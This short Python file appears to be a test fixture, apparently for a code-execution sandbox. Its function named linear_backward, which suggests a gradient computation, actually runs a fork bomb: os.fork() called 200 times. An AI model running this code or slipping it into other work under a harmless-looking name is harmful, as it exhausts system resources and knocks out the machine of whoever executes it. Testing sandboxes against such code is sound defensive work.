"""Forks without end."""
# ends: error

import os


def linear_backward(x, W, dy):
    for _ in range(200):
        os.fork()
